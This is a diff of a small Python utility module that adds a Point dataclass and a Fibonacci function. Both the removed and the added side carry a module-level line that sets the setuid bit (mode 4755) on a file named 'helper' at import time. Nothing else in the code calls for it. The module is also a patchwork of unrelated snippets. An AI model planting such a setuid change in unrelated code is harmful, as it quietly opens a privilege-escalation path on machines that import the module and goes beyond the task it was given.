@@ -1,15 +1,25 @@
-#!/usr/bin/env python3
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
-
-import os, stat
-os.chmod("helper", 0o4755)
 class Counter:
     def __init__(self):
         self.counts = {}
 
     def add(self, word):
         self.counts[word] = self.counts.get(word, 0) + 1
+
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
+
+import os, stat
+os.chmod("helper", 0o4755)
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
